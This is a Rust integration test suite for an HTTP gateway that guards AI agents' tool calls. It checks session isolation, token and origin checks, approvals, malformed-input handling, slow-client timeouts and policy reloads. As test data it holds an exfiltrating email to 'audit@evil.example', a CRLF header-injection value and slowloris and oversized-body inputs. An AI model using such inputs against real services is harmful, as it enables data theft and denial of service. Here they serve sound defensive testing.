//! `bouncer gateway --listen`: agents that come over HTTP, honest and hostile.

use super::gateway::Place;
use super::http_client::{Client, Listening, read_open};
use super::http_peer::HttpPeer;
use serde_json::{Value, json};
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

/// The list of tokens with these names and tokens.
pub fn tokens(of: &[(&str, &str)]) -> String {
    let line = |(name, token): &(&str, &str)| format!("{name} {}\n", sha256(token));
    of.iter().map(line).collect()
}

fn sha256(text: &str) -> String {
    let mut child = std::process::Command::new("sha256sum")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(text.as_bytes())
        .unwrap();
    let output = child.wait_with_output().unwrap();
    String::from_utf8(output.stdout).unwrap()[..64].to_owned()
}

fn policy(more: &str) -> String {
    let program = json!(env!("CARGO_BIN_EXE_bouncer"));
    format!(
        "version: 1\npacks: []\nheuristics: false\naudit: {{path: audit.jsonl}}\napproval: {{path: approvals.db}}\ntools:\n  mail__send_email: {{exfiltrating: true, sink_params: [to], max_calls: 3}}\nservers:\n  mail: {{command: {program}, args: [demo-server]}}\n{more}"
    )
}

fn far(peer: &HttpPeer) -> String {
    format!(
        "version: 1\npacks: []\nheuristics: false\naudit: {{path: audit.jsonl}}\nrules:\n  - {{tool: far__silent, action: ask, reason: look at it}}\n  - {{tool: '*', action: allow}}\nservers:\n  far: {{url: '{}'}}\n",
        peer.url()
    )
}

fn with_tokens(policy: &str, of: &[(&str, &str)], more: &[&str]) -> Listening {
    let place = Place::new("bouncer.yaml", policy);
    std::fs::write(place.path("tokens"), tokens(of)).unwrap();
    Listening::start_in(place, &[&["--tokens", "tokens"], more].concat())
}

fn mail(to: &str) -> Value {
    json!({"to": [to], "subject": "report", "body": "the quarterly report"})
}

#[test]
fn two_principals_have_two_conversations() {
    let gateway = with_tokens(
        &policy(""),
        &[("alice", "a-token"), ("bob", "b-token")],
        &[],
    );
    let (mut alice, mut bob) = (
        gateway.agent(Some("a-token")),
        gateway.agent(Some("b-token")),
    );
    alice.until_tools(4);
    bob.until_tools(4);
    assert_ne!(alice.session, bob.session);
    let (_, failed) = alice.call("mail__read_inbox", json!({}));
    assert!(!failed);
    // What Alice has read is known in her conversation, and not in Bob's.
    let (text, failed) = alice.call("mail__send_email", mail("audit@evil.example"));
    assert!(
        failed && text.contains("came from untrusted data"),
        "{text}"
    );
    let (text, failed) = bob.call("mail__send_email", mail("audit@evil.example"));
    assert!(
        failed && text.contains("tell your user that request req_"),
        "{text}"
    );
    // An approval is for one conversation.
    let id = text.split("request ").nth(1).unwrap();
    let id = id.split(' ').next().unwrap().to_owned();
    let (code, _, errors) = gateway
        .place
        .run(&["approve", &id, "--approvals", "approvals.db"]);
    assert_eq!(code, 0, "{errors}");
    let (_, failed) = alice.call("mail__send_email", mail("audit@evil.example"));
    assert!(failed);
    let (text, failed) = bob.call("mail__send_email", mail("audit@evil.example"));
    assert!(!failed, "{text}");
    // A session is its principal's: whoever learns its id has nothing.
    let mut thief = Client {
        session: alice.session.clone(),
        ..bob.clone()
    };
    thief.id = 50;
    for (method, body) in [
        ("POST", r#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#),
        ("GET", ""),
        ("DELETE", ""),
    ] {
        let reply = thief.send(method, &[], body.as_bytes());
        assert_eq!(reply.status, 404, "{method}");
    }
    let nobody = Client {
        token: None,
        ..thief.clone()
    };
    assert_eq!(nobody.get().status, 401);
    let (_, failed) = alice.call("mail__list_contacts", json!({}));
    assert!(!failed);
    // She ends it; nobody has it any more.
    assert_eq!(alice.send("DELETE", &[], b"").status, 204);
    let gone = alice.post(&json!({"jsonrpc": "2.0", "id": 9, "method": "tools/list"}));
    assert_eq!(gone.status, 404);
    let (code, place) = gateway.stop();
    assert_eq!(code, 143);
    let mut conversations: Vec<String> = place
        .audited("audit.jsonl")
        .iter()
        .map(|line| line["conversation"].as_str().unwrap().to_owned())
        .collect();
    conversations.sort();
    conversations.dedup();
    let of = |name: &str| conversations.iter().filter(|c| c.starts_with(name)).count();
    assert_eq!((of("alice/"), of("bob/"), conversations.len()), (1, 1, 2));
    let log = std::fs::read_to_string(place.path("audit.jsonl")).unwrap();
    let errors = std::fs::read_to_string(place.path("stderr")).unwrap();
    for secret in [
        alice.session.unwrap(),
        bob.session.unwrap(),
        "a-token".to_owned(),
    ] {
        assert!(!log.contains(&secret) && !errors.contains(&secret));
    }
}

#[test]
fn who_is_not_asked_in_is_turned_away() {
    let gateway = with_tokens(
        &policy(""),
        &[("alice", "a-token")],
        &[
            "--allow-host",
            "gate.example",
            "--allow-origin",
            "https://app.example",
        ],
    );
    let client = gateway.client(Some("a-token"));
    let hello = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}})
    .to_string();
    let status = |more: &[(&str, &str)]| client.send("POST", more, hello.as_bytes()).status;
    for (more, expected) in [
        (&[("Host", "evil.example")][..], 403),
        (&[("Host", "")], 400),
        (&[("Origin", "https://evil.example")], 403),
        (&[("Origin", "null")], 403),
        (&[("Authorization", "")], 401),
        (&[("Authorization", "Bearer wrong")], 401),
        (&[("Authorization", "Basic a-token")], 401),
        (&[("Content-Type", "text/plain")], 415),
        (&[("Content-Type", "")], 415),
        (&[("Accept", "application/json")], 406),
        (&[("MCP-Protocol-Version", "1999-01-01")], 400),
        (&[("Mcp-Session-Id", "made-up")], 404),
        (
            &[("Host", "gate.example"), ("Origin", "https://app.example")],
            200,
        ),
        (
            &[("Host", "localhost:1"), ("Origin", "http://localhost:3000")],
            200,
        ),
    ] {
        assert_eq!(status(more), expected, "{more:?}");
    }
    let unauthorized = client.send("POST", &[("Authorization", "")], hello.as_bytes());
    assert_eq!(unauthorized.header("www-authenticate"), Some("Bearer"));
    let elsewhere = client.open("POST", "/other", &[], hello.as_bytes());
    assert_eq!(elsewhere.status, 404);
    // The target of a request to a proxy counts as well as its host.
    let absolute = client.open("POST", "http://evil.example/mcp", &[], hello.as_bytes());
    assert_eq!(absolute.status, 403);
    let options = client.send("OPTIONS", &[], b"");
    assert_eq!(
        (options.status, options.header("allow")),
        (405, Some("POST, GET, DELETE"))
    );
    assert_eq!(client.get().status, 400);
    // Pages that may ask may also read, those of this machine too.
    let preflight = [("Origin", "https://app.example"), ("Authorization", "")];
    let reply = client.send("OPTIONS", &preflight, b"");
    let allowed = reply.header("access-control-allow-origin");
    assert_eq!((reply.status, allowed), (204, Some("https://app.example")));
    let local = client.send(
        "POST",
        &[("Origin", "http://localhost:3000")],
        hello.as_bytes(),
    );
    let allowed = local.header("access-control-allow-origin");
    assert_eq!(allowed, Some("http://localhost:3000"));
}

#[test]
fn what_is_not_one_message_goes_nowhere() {
    let gateway = Listening::start(&policy(""), &[]);
    let mut client = gateway.agent(None);
    client.until_tools(4);
    let call = r#"{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"mail__list_contacts","arguments":{}}}"#;
    for (body, expected) in [
        (String::new(), 400),
        ("{".to_owned(), 400),
        (format!("[{call},{call}]"), 400),
        // One message is one message, also in an array.
        (format!("[{call}]"), 200),
        (call.replace("\"id\":7", "\"id\":7,\"id\":8"), 400),
        (
            call.replace("\"id\":7", "\"id\":7,\"method\":\"ping\""),
            400,
        ),
        (call.replace("mail__list", "mail__\nlist"), 400),
        (format!("{call}\n{call}"), 400),
        (call.replace("tools/call", "tools/call "), 400),
        (call.replace("tools/call", "Tools/Call"), 400),
        (call.replace(",\"", "\r\n  ,\n\t\""), 200),
    ] {
        let reply = client.send("POST", &[], body.as_bytes());
        assert_eq!(reply.status, expected, "{body}: {reply:?}");
    }
    // Too long: said before it is read, or while.
    let long = format!("{}{}", " ".repeat(17 << 20), call);
    let reply = client.open("POST", "/mcp", &[], long.as_bytes());
    assert_eq!(reply.status, 413);
    let mut stream = TcpStream::connect(gateway.address).unwrap();
    let head = format!(
        "POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nMcp-Session-Id: {}\r\nTransfer-Encoding: chunked\r\n\r\n",
        client.session.as_ref().unwrap()
    );
    stream.write_all(head.as_bytes()).unwrap();
    let piece = " ".repeat(1 << 20);
    for _ in 0..17 {
        if write!(stream, "100000\r\n{piece}\r\n").is_err() {
            break;
        }
    }
    assert_eq!(read_open(stream).status, 413);
    // The head is bounded, too; what it names is never part of another line.
    let many = "x".repeat(200_000);
    assert_eq!(
        client
            .open("POST", "/mcp", &[("X-Many", &many)], b"{}")
            .status,
        431
    );
    let name = json!({"jsonrpc": "2.0", "id": 8, "method": "tools/call",
        "params": {"name": "mail__x\r\nMcp-Session-Id: forged\r\n\r\n{}", "arguments": {}}});
    let reply = client.post(&name);
    assert_eq!(reply.status, 200);
    assert_eq!(reply.header("mcp-session-id"), None);
    assert_eq!(reply.messages.len(), 1);
    let (_, failed) = client.call("mail__list_contacts", json!({}));
    assert!(!failed);
    let (_, place) = gateway.stop();
    let lines = place.audited("audit.jsonl");
    // What cannot be read is logged, and was never forwarded.
    let malformed = lines
        .iter()
        .filter(|line| line["code"] == "malformed")
        .count();
    assert!(malformed >= 5, "{lines:?}");
    let forwarded = lines
        .iter()
        .filter(|line| line["outcome"] == "forwarded")
        .count();
    assert_eq!(forwarded, 3);
}

#[test]
fn who_is_slow_holds_up_nobody() {
    let gateway = Listening::start(&policy(""), &[]);
    let mut client = gateway.agent(None);
    client.until_tools(4);
    let slow: Vec<TcpStream> = (0..100)
        .map(|_| {
            let mut stream = TcpStream::connect(gateway.address).unwrap();
            stream
                .write_all(b"POST /mcp HTTP/1.1\r\nHost: loc")
                .unwrap();
            stream
        })
        .collect();
    let mut body = TcpStream::connect(gateway.address).unwrap();
    let head = format!(
        "POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nMcp-Session-Id: {}\r\nContent-Length: 100\r\n\r\n{{",
        client.session.as_ref().unwrap()
    );
    body.write_all(head.as_bytes()).unwrap();
    let (_, failed) = client.call("mail__list_contacts", json!({}));
    assert!(!failed);
    // They are hung up on in the end.
    for mut stream in slow {
        stream
            .set_read_timeout(Some(Duration::from_secs(30)))
            .unwrap();
        let mut rest = Vec::new();
        let _ = stream.read_to_end(&mut rest);
        assert!(
            rest.is_empty() || rest.starts_with(b"HTTP/1.1 408"),
            "{rest:?}"
        );
    }
    body.set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    assert_eq!(read_open(body).status, 408);
}

#[test]
fn a_client_is_asked_on_the_stream_of_its_call() {
    let peer = HttpPeer::start();
    let gateway = Listening::start(&far(&peer), &[]);
    let mut client = gateway.client(None);
    client.hello(&json!({"elicitation": {}}));
    client.until_tools(10);
    let call = json!({"jsonrpc": "2.0", "id": "c", "method": "tools/call",
        "params": {"name": "far__silent", "arguments": {}}});
    for (action, forwarded) in [("decline", false), ("accept", true)] {
        let mut open = client.open("POST", "/mcp", &[], call.to_string().as_bytes());
        assert_eq!(open.header("content-type"), Some("text/event-stream"));
        let question = open.until(|event| event["method"] == "elicitation/create");
        assert!(
            question["params"]["message"]
                .as_str()
                .unwrap()
                .contains("look at it")
        );
        let content = question["params"]["requestedSchema"]["properties"]
            .as_object()
            .unwrap();
        let content: Value = content
            .keys()
            .map(|key| (key.clone(), json!(true)))
            .collect();
        let answer = json!({"jsonrpc": "2.0", "id": question["id"],
            "result": {"action": action, "content": content}});
        assert_eq!(client.post(&answer).status, 202);
        let answer = open.until(|event| event["id"] == "c");
        let denied = answer["result"]["content"][0]["text"]
            .as_str()
            .unwrap_or_default();
        assert_eq!(denied.contains("[bouncer"), !forwarded, "{answer}");
        assert_eq!(open.event(), None);
    }
    let called = |seen: &super::http_peer::Seen| seen.json()["params"]["name"] == "silent";
    assert_eq!(peer.seen().iter().filter(|seen| called(seen)).count(), 1);
}

#[test]
fn what_servers_say_reaches_who_listens_and_nobody_else() {
    let peer = HttpPeer::start();
    let gateway = with_tokens(
        &far(&peer),
        &[("alice", "a-token"), ("bob", "b-token")],
        &[],
    );
    let mut alice = gateway.agent(Some("a-token"));
    alice.until_tools(10);
    let mut listening = alice.get();
    assert_eq!(listening.status, 200);
    // Progress goes with the call that it belongs to.
    let call = json!({"jsonrpc": "2.0", "id": "c", "method": "tools/call",
        "params": {"name": "far__stream", "arguments": {}, "_meta": {"progressToken": "mine"}}});
    let reply = alice.post(&call);
    assert_eq!(reply.messages.len(), 2, "{reply:?}");
    assert_eq!(reply.messages[0]["params"]["progressToken"], "mine");
    peer.wait_for(|seen| seen.method == "GET");
    std::thread::sleep(Duration::from_millis(100));
    peer.say(&json!({"jsonrpc": "2.0", "method": "notifications/message",
        "params": {"level": "info", "data": "for alice"}}));
    let heard = listening.until(|event| event["method"] == "notifications/message");
    assert_eq!(heard["params"]["data"], "for alice");
    // A newer stream takes the place of an older one.
    let mut again = alice.get();
    assert_eq!(listening.event(), None);
    peer.say(&json!({"jsonrpc": "2.0", "method": "notifications/message",
        "params": {"level": "info", "data": "again"}}));
    again.until(|event| event["params"]["data"] == "again");
}

#[test]
fn clients_and_servers_vanish_in_the_middle_of_a_call() {
    let peer = HttpPeer::start();
    let gateway = Listening::start(&far(&peer), &[]);
    let mut client = gateway.agent(None);
    client.until_tools(10);
    let hang = |id: &str| {
        json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
            "params": {"name": "far__hang", "arguments": {}}})
        .to_string()
    };
    // The client goes; the session stays.
    client
        .open("POST", "/mcp", &[], hang("gone").as_bytes())
        .cut();
    let (_, failed) = client.call("far__echo", json!({"say": 1}));
    assert!(!failed);
    // Its id is still in use.
    let reply = client.send("POST", &[], hang("gone").as_bytes());
    assert_eq!(reply.status, 400, "{reply:?}");
    // The server goes: whoever waits is told.
    let mut open = client.open("POST", "/mcp", &[], hang("waits").as_bytes());
    peer.wait_for(|seen| seen.json()["params"]["name"] == "hang");
    peer.kill();
    let answer = open.until(|event| event["id"] == "waits");
    assert!(answer["error"]["message"].is_string(), "{answer}");
    assert_eq!(open.event(), None);
}

#[test]
fn there_are_only_so_many_conversations_and_they_end() {
    let peer = HttpPeer::start();
    let limits = ["--max-conversations", "4", "--idle", "2"];
    let gateway = with_tokens(
        &far(&peer),
        &[("alice", "a-token"), ("bob", "b-token")],
        &limits,
    );
    let mut first = gateway.agent(Some("a-token"));
    let _second = gateway.agent(Some("a-token"));
    // Half of them for one principal.
    assert_eq!(
        gateway.client(Some("a-token")).hello(&json!({})).status,
        429
    );
    let _bobs = (
        gateway.agent(Some("b-token")),
        gateway.agent(Some("b-token")),
    );
    // Who listens is there; of whom nothing is heard is let go.
    let listening = first.get();
    let until = Instant::now() + Duration::from_secs(30);
    while gateway.client(Some("a-token")).hello(&json!({})).status != 200 {
        assert!(Instant::now() < until);
        std::thread::sleep(Duration::from_millis(100));
    }
    first.until_tools(10);
    drop(listening);
    let bad = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {}});
    for _ in 0..10 {
        // What does not begin does not count.
        let reply = gateway.client(Some("b-token")).post(&bad);
        assert!(reply.header("mcp-session-id").is_none(), "{reply:?}");
    }
}

#[test]
fn told_to_stop_it_ends_what_was_begun() {
    let peer = HttpPeer::start();
    let mut gateway = Listening::start(&far(&peer), &["--drain", "2"]);
    let mut client = gateway.client(None);
    client.hello(&json!({"elicitation": {}}));
    client.until_tools(10);
    let call = json!({"jsonrpc": "2.0", "id": "c", "method": "tools/call",
        "params": {"name": "far__silent", "arguments": {}}});
    let mut open = client.open("POST", "/mcp", &[], call.to_string().as_bytes());
    let question = open.until(|event| event["method"] == "elicitation/create");
    gateway.signal("-TERM");
    let until = Instant::now() + Duration::from_secs(10);
    while !gateway.said().contains("told to stop") {
        assert!(Instant::now() < until);
        std::thread::sleep(Duration::from_millis(10));
    }
    // Nothing new is begun, what was begun is ended.
    let list = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/list"});
    let reply = client.post(&list);
    assert_eq!(
        (reply.status, reply.header("retry-after")),
        (503, Some("1"))
    );
    let answer = json!({"jsonrpc": "2.0", "id": question["id"], "result": {"action": "decline"}});
    assert_eq!(client.post(&answer).status, 202);
    let answer = open.until(|event| event["id"] == "c");
    assert_eq!(answer["result"]["isError"], true);
    assert_eq!(gateway.child.wait().unwrap().code(), Some(143));
    peer.wait_for(|seen| seen.method == "DELETE");
}

#[test]
fn nobody_listens_to_the_world_without_tokens() {
    let place = Place::new("bouncer.yaml", &policy(""));
    let (code, _, errors) = place.run(&["gateway", "--listen", "0.0.0.0:0"]);
    assert!(
        code == 1 && errors.contains("give tokens with `--tokens`"),
        "{errors}"
    );
    for (text, why) in [
        ("", "no token"),
        ("alice\n", "line 1"),
        ("alice zz\n", "64 hexadecimal"),
    ] {
        std::fs::write(place.path("tokens"), text).unwrap();
        let arguments = ["gateway", "--listen", "127.0.0.1:0", "--tokens", "tokens"];
        let (code, _, errors) = place.run(&arguments);
        assert!(code == 1 && errors.contains(why), "{errors}");
    }
    let (code, _, errors) = place.run(&["gateway", "--listen", "here"]);
    assert!(code == 1 && errors.contains("127.0.0.1:8808"), "{errors}");
    let (code, _, _) = place.run(&["gateway", "--tokens", "tokens"]);
    assert_eq!(code, 2);
}

#[test]
fn a_new_policy_counts_for_conversations_that_are_open() {
    let loose = policy("rules: [{tool: 'mail__*', action: allow}]\n");
    let gateway = Listening::start(&loose, &[]);
    let mut open = gateway.agent(None);
    open.until_tools(4);
    let contacts = |client: &mut Client| client.call("mail__list_contacts", json!({}));
    assert!(!contacts(&mut open).1);
    let replace = |text: &str| {
        std::fs::write(gateway.place.path("next"), text).unwrap();
        let target = gateway.place.path("bouncer.yaml");
        std::fs::rename(gateway.place.path("next"), target).unwrap();
        gateway.signal("-HUP");
    };
    let said = |what: &str, times: usize| {
        let until = Instant::now() + Duration::from_secs(30);
        while gateway.said().matches(what).count() < times {
            assert!(Instant::now() < until, "{}", gateway.said());
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    // What does not compile changes nothing, and is said.
    replace("version: 1\nrules: [{tool: 'mail__*', action: perhaps}]\n");
    said("what was in force before goes on", 1);
    assert!(!contacts(&mut open).1);
    let strict = policy("rules: [{tool: 'mail__list_contacts', action: deny, reason: no more}]\n");
    replace(&strict);
    said("judges from now on", 1);
    let (text, failed) = contacts(&mut open);
    assert!(failed && text.contains("no more"), "{text}");
    // And for those that come after it.
    let mut late = gateway.agent(None);
    late.until_tools(4);
    let (text, failed) = contacts(&mut late);
    assert!(failed && text.contains("no more"), "{text}");
    // While calls fly, each is judged by the one or the other, and answered.
    let calls = std::thread::spawn(move || {
        let mut denied = 0;
        for _ in 0..200 {
            let (text, failed) = open.call("mail__list_contacts", json!({}));
            assert!(!failed || text.contains("no more"), "{text}");
            denied += usize::from(failed);
        }
        denied
    });
    for text in [&loose, &strict, &loose] {
        replace(text);
        std::thread::sleep(Duration::from_millis(200));
    }
    said("judges from now on", 2);
    let denied = calls.join().unwrap();
    let until = Instant::now() + Duration::from_secs(30);
    let mut waited = 1;
    while contacts(&mut late).1 {
        waited += 1;
        assert!(Instant::now() < until, "{}", gateway.said());
    }
    let (_, place) = gateway.stop();
    let lines = place.audited("audit.jsonl");
    let of = |verdict: &str| lines.iter().filter(|l| l["verdict"] == verdict).count();
    // Nothing is lost from the log: four calls before, two hundred, and those that waited.
    assert_eq!(of("deny"), 2 + denied + waited - 1);
    assert_eq!(of("allow") + of("deny"), 204 + waited);
}

#[test]
fn a_new_policy_is_logged_also_when_nobody_is_there() {
    let gateway = Listening::start(&policy("rules: [{tool: '*', action: allow}]\n"), &[]);
    let replace = |text: &str, said: &str| {
        std::fs::write(gateway.place.path("next"), text).unwrap();
        let target = gateway.place.path("bouncer.yaml");
        std::fs::rename(gateway.place.path("next"), target).unwrap();
        gateway.signal("-HUP");
        let until = Instant::now() + Duration::from_secs(30);
        while !gateway.said().contains(said) {
            assert!(Instant::now() < until, "{}", gateway.said());
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    replace("version: 1\nrules: 7\n", "what was in force before goes on");
    replace(
        &policy("rules: [{tool: '*', action: deny}]\n"),
        "judges from now on",
    );
    // Who comes then is told apart by the plan of its lines.
    let mut agent = gateway.agent(None);
    agent.until_tools(4);
    let (_, failed) = agent.call("mail__list_contacts", json!({}));
    assert!(failed);
    let (_, place) = gateway.stop();
    let lines = place.audited("audit.jsonl");
    let events: Vec<&Value> = lines.iter().map(|line| &line["event"]).collect();
    assert_eq!(
        events,
        ["reload_failed", "reloaded", ""]
            .map(|e| if e.is_empty() { Value::Null } else { json!(e) })
            .iter()
            .collect::<Vec<_>>()
    );
    assert_eq!(lines[1]["plan"], lines[2]["plan"]);
    assert_eq!(lines[1]["before"], lines[0]["plan"]);
    assert_ne!(lines[1]["plan"], lines[0]["plan"]);
}
